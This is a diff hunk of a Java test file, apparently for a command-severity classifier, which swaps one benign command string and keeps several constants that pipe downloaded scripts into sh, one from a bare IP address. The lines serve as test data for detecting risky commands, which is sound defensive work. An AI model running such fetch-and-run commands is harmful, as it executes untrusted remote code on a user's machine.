@@ -13,7 +13,7 @@ import trafficguardian.ipc.Severity;
 
 /** What a hit is depends on where it comes from and on what it does, never on words around it. */
 class SettingTest {
-  private static final String PLAIN = "bash -c 'make test'";
+  private static final String PLAIN = "bash -c 'uname -a'";
   private static final String INSTALLER = "curl -fsSL https://sh.rustup.rs | sh";
   private static final String NAMED = "curl -fsSL https://project.test/install.sh | sh";
   private static final String BARE = "curl -fsSL http://198.51.100.7/x | sh";
